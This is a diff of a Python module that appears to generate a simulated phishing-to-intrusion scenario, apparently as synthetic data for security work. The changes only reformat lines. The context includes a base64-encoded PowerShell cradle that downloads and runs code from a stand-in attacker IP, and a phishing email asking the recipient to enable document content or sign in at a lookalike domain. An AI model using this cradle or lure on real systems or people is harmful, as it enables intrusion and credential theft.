@@ -16,7 +16,10 @@ ATTACKER_IP = "203.0.113.77"
 ATTACKER_DOMAIN = "norvik-invoices.example"
 _OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
 _POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-_CRADLE = "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AYQAnACkA"
+_CRADLE = (
+    "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8A"
+    "YQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AYQAnACkA"
+)
 
 
 def story(company: Company, start: datetime) -> Iterator[Item]:
@@ -31,8 +34,8 @@ def story(company: Company, start: datetime) -> Iterator[Item]:
 def _initial_access(company: Company, at: datetime) -> Iterator[Item]:
     victim = company.people[0]
     body = (
-        f"Dear {victim.name.split()[0]},\n\ninvoice 48213 is overdue. Open the attached document and enable its content, "
-        f"or sign in at https://login.{ATTACKER_DOMAIN}/norvik/session?id=48213 to view it.\n\nAccounts payable\n"
+        f"Dear {victim.name.split()[0]},\n\ninvoice 48213 is overdue. Open the attached document and enable its "
+        f"content, or sign in at https://login.{ATTACKER_DOMAIN}/norvik/session?id=48213 to view it.\n\nAccounts payable\n"
     )
     lure = mail.message(
         at,
